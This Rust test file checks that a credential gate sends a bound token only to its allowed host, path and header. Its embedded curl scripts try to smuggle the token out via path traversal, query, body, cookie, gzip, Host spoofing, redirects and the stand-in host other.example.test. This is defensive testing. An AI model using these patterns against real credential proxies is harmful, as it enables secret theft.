//! A credential goes where it is bound and nowhere else: each wrong request beside the right one, judged by what the
//! upstream received. That the gate says no is not enough; somebody must also be able to see that it was asked.

use crate::ground::{CANARY, Ground};

/// One right request and many that are wrong by one thing.
const ASK: &str = r#"
ask() { label=$1; shift; echo "$label: $(curl -sS -m 10 "$@" 2>&1 | tr '\n' ' ')"; }
at=https://api.example.test:$PORT
bearer="Authorization: Bearer $TOKEN"
ask right -H "$bearer" "$at/repos/one"
ask path -H "$bearer" "$at/users/one"
ask dots --path-as-is -H "$bearer" "$at/repos/../users"
ask escaped-dots --path-as-is -H "$bearer" "$at/repos/%2e%2e/users"
ask escaped-slash -H "$bearer" "$at/repos%2fone"
ask header -H "X-Other: $TOKEN" "$at/repos/one"
ask twice -H "$bearer" -H "Authorization: Bearer x$TOKEN" "$at/repos/one"
ask query "$at/repos/one?token=$TOKEN"
ask in-path "$at/repos/$TOKEN"
ask body -d "x=$TOKEN" "$at/repos/one"
printf '%s' "$TOKEN" | gzip > packed
ask packed -H 'Content-Encoding: gzip' --data-binary @packed "$at/repos/one"
ask cookie -b "a=$TOKEN" "$at/repos/one"
ask host -H "$bearer" -H 'Host: other.example.test' "$at/repos/one"
"#;

#[test]
fn a_credential_goes_where_it_is_bound_and_nowhere_else() {
    let ground = Ground::new();
    let ran = ground.with_token(&ground.api(), ASK);
    let received = ground.upstream.received();
    let carried: Vec<&str> =
        received.iter().filter(|one| one.holds(CANARY)).map(|one| one.target.as_str()).collect();
    assert_eq!(carried, ["/repos/one"], "only the right request carries the value: {ran:?}");
    for label in ["path", "escaped-dots", "header", "query", "in-path", "body", "packed", "cookie"] {
        let line = ran.out.lines().find(|line| line.starts_with(&format!("{label}: "))).unwrap_or_default();
        assert!(line.contains(": bailiwick: secret `github`"), "{label} is refused in words: {line}");
    }
    for (label, why) in
        [("dots", "bailiwick: "), ("host", "bailiwick: the request's target says other.example.test")]
    {
        let line = ran.out.lines().find(|line| line.starts_with(&format!("{label}: "))).unwrap_or_default();
        assert!(line.contains(why), "{label} is refused in words: {line}");
    }
    let alerts = ground.alerts();
    assert!(alerts.iter().any(|alert| alert.contains("secret-misuse")), "{alerts:?}");
    assert!(!format!("{:?}", ground.journal()).contains(CANARY), "the value is in the journal");
}

#[test]
fn no_credential_goes_where_the_gate_does_not_speak_tls_itself() {
    let ground = Ground::new();
    let (plain, raw) = (ground.upstream.plain, ground.upstream.raw);
    let places = [format!("http://api.example.test:{plain}"), format!("tcp://api.example.test:{raw}")];
    let script = format!(
        "curl -sS -m 10 http://api.example.test:{plain}/repos/one\n\
         curl -sS -m 10 -H \"Authorization: Bearer $TOKEN\" http://api.example.test:{plain}/repos/two\n\
         curl -sS -m 2 -H \"Authorization: Bearer $TOKEN\" http://api.example.test:{raw}/repos/three"
    );
    let ran = ground.with_token(&ground.places(&places.each_ref().map(String::as_str)), &script);
    assert!(ground.upstream.heard("/repos/one"), "the place itself can be reached: {ran:?}");
    assert!(!ground.upstream.heard("/repos/two"), "a placeholder in plain HTTP stops the request");
    assert!(ground.upstream.heard("/repos/three"), "what is not opened passes as it is");
    assert!(!ground.upstream.heard(CANARY), "the value went out: {ran:?}");
}

#[test]
fn a_credential_goes_to_no_other_place_although_it_may_be_reached() {
    let ground = Ground::new();
    let (port, second) = (ground.upstream.port, ground.upstream.second);
    let places = ["api", "other"].map(|name| format!("{name}.example.test:{port}"));
    let places = [places[0].as_str(), places[1].as_str(), &format!("api.example.test:{second}")];
    let script = r#"
ask() { label=$1; shift; echo "$label: $(curl -sS -m 10 "$@" 2>&1 | tr '\n' ' ')"; }
bearer="Authorization: Bearer $TOKEN"
ask other "https://other.example.test:$PORT/repos/plainly"
ask other-name -H "$bearer" "https://other.example.test:$PORT/repos/other-name"
ask other-port -H "$bearer" "https://api.example.test:$SECOND/repos/other-port"
ask redirect -L --location-trusted -H "$bearer" "https://api.example.test:$PORT/repos/echo/to-other.example.test:$PORT"
ask redirect-query -L "https://api.example.test:$PORT/repos/echo/to-other.example.test:$PORT" -H "$bearer"
ask user "https://x:$TOKEN@other.example.test:$PORT/repos/user"
"#;
    let ran = ground.with_token(&ground.places(&places), script);
    let received = ground.upstream.received();
    let carried: Vec<_> =
        received.iter().filter(|one| one.holds(CANARY)).map(|one| one.sni.as_str()).collect();
    assert_eq!(carried, ["api.example.test"; 2], "{received:?}");
    assert!(ground.upstream.heard("/repos/plainly"), "the other place can be reached: {ran:?}");
    for path in ["other-name", "other-port", "followed", "user"] {
        assert!(!ground.upstream.heard(&format!("/repos/{path}")), "{path} went out: {received:?}");
    }
    for label in ["other-name", "other-port", "redirect", "redirect-query", "user"] {
        let line = ran.out.lines().find(|line| line.starts_with(&format!("{label}: "))).unwrap_or_default();
        assert!(line.contains("bailiwick: secret `github`"), "{label} is refused in words: {line}");
    }
    let alerts = ground.alerts();
    for place in [format!("other.example.test:{port}"), format!("api.example.test:{second}")] {
        let told = |alert: &String| alert.contains("secret-misuse") && alert.contains(&place);
        assert!(alerts.iter().any(told), "{place}: {alerts:?}");
    }
}
